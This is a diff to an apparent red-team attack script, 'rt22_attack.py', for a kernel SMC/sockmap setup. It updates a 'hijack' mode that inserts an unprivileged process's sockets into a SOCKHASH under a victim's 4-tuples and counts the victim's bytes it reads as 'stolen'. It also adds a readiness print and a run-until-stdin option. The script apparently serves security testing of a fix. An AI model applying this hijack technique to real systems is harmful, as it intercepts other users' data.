@@ -15,8 +15,9 @@ against the loopback-ism daemon ($SMC_CTL_SOCK) and other users' accelerated con
   rt22_attack.py hijack PORT SECS
       (a process of an ATTACHED cgroup, any uid) as `leave`, but both of its sockets opt in to
       SMC (SMC_SO_ENABLE), so that the sock_ops program puts them into the SOCKHASH under the
-      victim's keys (no network namespace in the key): the victim's doorbells are redirected
-      into the attacker's sockets. Reads them for SECS: "HIJACK stolen=BYTES".
+      victim's 4-tuples (before round 23 the key had no network namespace: they replaced the
+      victim's sockets). Prints "BUILT n" once its n sockets exist, then reads them for SECS
+      (SECS 0: until a line or EOF on stdin): "HIJACK stolen=BYTES".
   rt22_attack.py probe SECS
       (the victim's side, root) QUERY_GID round trips for SECS: "PROBE n=... p50ms=... maxms=...".
   rt22_attack.py sweepv6 PORT SECS
@@ -26,6 +27,7 @@ against the loopback-ism daemon ($SMC_CTL_SOCK) and other users' accelerated con
 """
 import ctypes
 import os
+import select
 import socket
 import struct
 import subprocess
@@ -203,11 +205,14 @@ def hijack(port, secs):
         c.connect(("127.0.0.1", sport))
         a, _ = ls.accept()
         socks += [c, a]
+    print("BUILT %d" % len(socks), flush=True)
     stolen = 0
-    end = time.monotonic() + secs
+    end = time.monotonic() + (secs if secs > 0 else 1e9)
     for s in socks:
         s.setblocking(False)
     while time.monotonic() < end:
+        if secs <= 0 and select.select([sys.stdin], [], [], 0)[0]:
+            break
         for s in socks:
             try:
                 stolen += len(s.recv(65536))
